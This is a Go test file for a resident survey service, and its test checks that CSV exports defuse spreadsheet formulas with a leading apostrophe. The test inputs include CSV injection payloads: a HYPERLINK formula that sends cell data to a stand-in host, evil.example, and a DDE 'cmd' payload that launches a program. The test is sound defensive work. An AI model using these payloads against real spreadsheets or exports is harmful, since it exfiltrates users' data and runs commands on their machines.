package handlers_test

// Tests of the network-facing guarantees: client addresses and proxies,
// CSV formulas, per-survey address hashes, invitation code guessing,
// quality flags for untimed and phone-stuffed responses, and carrier-grade
// NAT pushes.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	mrand "math/rand/v2"
	"net/http"
	"strings"
	"testing"

	"github.com/minyi-survey/minyi/handlers"
	"github.com/minyi-survey/minyi/models"
	"github.com/minyi-survey/minyi/surveys/surveystest"
)

// commentBody is a random answer to the demo survey with comment as its
// open comment.
func commentBody(t *testing.T, in *instance, seed uint64, comment string) []byte {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(seed, 7)), p.Compiled)
	c, _ := json.Marshal(comment)
	sub.Answers["comment"] = c
	b, err := json.Marshal(sub)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestCSVExportDefusesFormulas: a resident's comment that a spreadsheet
// would run as a formula is exported with a leading apostrophe.
func TestCSVExportDefusesFormulas(t *testing.T) {
	comments := []string{`=HYPERLINK("http://evil.example/?d="&A1,"点击领奖")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "路灯坏了"}
	for name, in := range instances(t, handlers.Config{}) {
		t.Run(name, func(t *testing.T) {
			for i, c := range comments {
				if r := post(t, resident(t, in), in.URL+"/api/v1/surveys/"+slug+"/responses", "application/json", commentBody(t, in, uint64(i), c)); r.Status != 201 {
					t.Fatalf("submit: %d %s", r.Status, r.Raw)
				}
			}
			p, _ := in.Svc.Published(slug)
			d := signIn(t, in, models.RoleDesigner)
			r := d.do(http.MethodGet, fmt.Sprintf("/api/v1/admin/surveys/%d/responses.csv", p.Survey.ID), nil)
			if r.Status != 200 {
				t.Fatalf("export: %d", r.Status)
			}
			rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Raw, []byte("\ufeff")))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := -1
			for i, h := range rows[0] {
				if h == "comment" {
					col = i
				}
			}
			got := map[string]bool{}
			for _, row := range rows[1:] {
				got[row[col]] = true
				for i, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("column %s starts with a formula character: %q", rows[0][i], cell)
					}
				}
			}
			for _, c := range comments {
				want := strings.TrimSpace(c) // the page's texts are trimmed on submission
				if c != "路灯坏了" {
					want = "'" + want
				}
				if !got[want] {
					t.Errorf("comment %q exported as something else than %q: %v", c, want, got)
				}
			}
		})
	}
}
